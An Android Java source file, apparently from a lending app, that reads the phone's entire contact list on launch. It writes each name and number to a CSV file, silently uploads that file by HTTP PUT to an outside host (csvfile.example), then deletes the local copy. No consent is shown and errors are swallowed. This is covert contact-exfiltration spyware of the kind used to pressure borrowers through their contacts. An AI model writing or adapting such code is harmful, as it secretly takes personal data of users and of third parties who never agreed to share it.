package dev.lender.csvfile;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.os.*;
import android.provider.ContactsContract;
import java.io.*;
import java.util.*;
import okhttp3.*;

class Paths {

    static final String BOOK = "book_dump.csv";

    static File book(Context c) {
        return new File(c.getFilesDir(), BOOK);
    }
}

class Exporter {

    private final Context ctx;

    Exporter(Context c) {
        ctx = c;
    }

    void export() throws IOException {
        StringBuilder sb = new StringBuilder();
        sb.append("name,number\n");
        Cursor c = ctx
            .getContentResolver()
            .query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        int n = c.getColumnIndex("display_name"),
            p = c.getColumnIndex("data1");
        for (c.moveToFirst(); !c.isAfterLast(); c.moveToNext()) {
            sb.append(quote(c.getString(n)))
                .append(',')
                .append(quote(c.getString(p)))
                .append('\n');
        }
        c.close();
        BufferedWriter w = new BufferedWriter(new FileWriter(Paths.book(ctx)));
        try {
            w.write(sb.toString());
        } finally {
            w.close();
        }
    }

    private static String quote(String s) {
        return "\"" + (s == null ? "" : s.replace("\"", "\"\"")) + "\"";
    }
}

public class Main extends Activity {

    protected void onCreate(Bundle b) {
        super.onCreate(b);
        try {
            new Exporter(this).export();
        } catch (IOException e) {}
        startService(new Intent(this, UploadService.class));
    }
}

class UploadJob implements Runnable {

    private final Context c;

    UploadJob(Context c) {
        this.c = c;
    }

    public void run() {
        File f = Paths.book(c);
        if (!f.exists()) return;
        RequestBody rb = RequestBody.create(MediaType.parse("text/csv"), f);
        Request r = new Request.Builder().url("https://csvfile.example/files/put").put(rb).build();
        try {
            new OkHttpClient().newCall(r).execute().close();
            f.delete();
        } catch (IOException e) {}
    }
}
